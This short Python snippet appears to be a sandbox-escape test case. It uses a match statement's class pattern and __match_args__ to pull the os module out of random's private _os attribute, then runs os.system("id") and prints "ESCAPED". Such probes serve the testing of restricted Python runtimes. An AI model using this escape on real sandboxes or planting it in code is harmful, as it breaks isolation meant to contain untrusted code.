# class: a class pattern reads attributes named in __match_args__
import random
class R:
    __match_args__ = ("_os",)
match random:
    case R():
        pass
    case _:
        pass
class Box:
    __match_args__ = ("_os",)
    def __init__(self, m): self._os = m._os
match Box(random):
    case Box(o):
        print("ESCAPED", o.system("id"))
